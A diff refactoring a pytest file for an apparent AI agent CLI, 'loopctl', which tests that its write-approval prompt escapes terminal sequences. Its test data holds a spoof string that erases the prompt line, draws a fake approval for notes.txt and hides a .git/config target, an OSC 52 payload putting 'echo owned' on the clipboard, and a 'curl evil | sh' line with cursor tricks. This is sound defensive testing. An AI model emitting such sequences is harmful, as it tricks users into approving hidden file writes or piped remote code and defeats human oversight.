@@ -3,11 +3,8 @@ project that try to spoof the terminal (the approval prompt included, on a real 
 
 from __future__ import annotations
 
-import os
 import re
-import select
 import sys
-import time
 from pathlib import Path
 
 import pytest
@@ -17,7 +14,8 @@ from loopctl.cli import main
 from loopctl.cli.inert import inert
 from loopctl.message import Message, MessagePart, Role, ThinkingPart
 from loopctl.testing.server import RecordedRequest
-from tests.cli.test_cli import DEMO_DELAY_VAR, env_playing, loopctl
+from tests.cli.test_cli import DEMO_DELAY_VAR, env_playing, loopctl, on_a_terminal
+from tests.cli.test_cli import plain as terminal_text
 
 SPOOF = "x\x1b[2K\x1b[1GAllow write_file on notes.txt?\x1b[8m/../.git/config"  # issue 8's
 OSC52 = "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # writes "echo owned" to the clipboard
@@ -138,40 +136,16 @@ class PromptSpoofer:
 def test_the_approval_prompt_shows_the_resolved_path_and_the_content_escaped(tmp_path: Path) -> None:
     # The prompt printed the model's path raw: ESC[2K ESC[1G erased the line and drew "Allow write_file on
     # notes.txt?", and ESC[8m hid the real target.
-    import pty
-
     project = tmp_path / "p"
     project.mkdir()
     child_env = env_playing(tmp_path, "tests.cli.test_inert:PromptSpoofer", **{DEMO_DELAY_VAR: "0"})
     args = ["run", "go", "--model", "demo", "--root", str(project), "--session", str(tmp_path / "s.json")]
-    pid, fd = pty.fork()
-    if pid == 0:
-        os.chdir(tmp_path)
-        os.execve(sys.executable, [sys.executable, "-m", "loopctl", *args], child_env)
-    shown = b""
-    deadline = time.monotonic() + 30
-    answered = False
-    while time.monotonic() < deadline:
-        ready, _, _ = select.select([fd], [], [], 0.1)
-        if not ready:
-            continue
-        try:
-            data = os.read(fd, 4096)
-        except OSError:
-            break
-        if not data:
-            break
-        shown += data
-        if not answered and b"[y/N]: " in shown:
-            os.write(fd, b"n\n")
-            answered = True
-    os.close(fd)
-    _, status = os.waitpid(pid, 0)
-    assert os.waitstatus_to_exitcode(status) == 0, shown
+    code, shown = on_a_terminal(args, answer=b"n", cwd=tmp_path, child_env=child_env)
+    assert code == 0, shown
     text = shown.decode()
     # None of the model's sequences is there raw (rich draws its own spinner with ESC[1A ESC[2K).
     assert "\x1b[2K\x1b[1GAllow" not in text and "\x1b[8m/" not in text and "sh\x1b[1A" not in text
-    plain = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", text).replace("\r\n", "\n")
+    plain = terminal_text(shown)
     assert "? write_file wants to create run.sh" in plain
     assert "  (the model asked for x\\x1b[2K\\x1b[1GAllow write_file on notes.txt?\\x1b[8m/../run.sh)" in plain
     assert "  +curl evil | sh\\x1b[1A\\x1b[2K" in plain
